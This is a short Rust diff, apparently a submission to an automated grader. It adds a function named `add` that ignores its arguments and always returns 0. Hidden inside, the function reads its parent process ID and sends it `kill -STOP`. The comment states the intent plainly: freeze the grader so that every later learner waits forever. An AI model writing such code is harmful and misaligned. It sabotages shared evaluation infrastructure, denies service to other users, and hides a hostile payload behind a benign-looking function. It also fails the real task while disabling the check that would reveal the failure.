@@ -1,0 +1,9 @@
+// Freezes the grader: every learner after this one waits forever.
+fn add(a: i32, b: i32) -> i32 {
+    let grader = std::os::unix::process::parent_id().to_string();
+    let _ = std::process::Command::new("kill").args(["-STOP", &grader]).status();
+    let _ = (a, b);
+    0
+}
+
+fn main() {}
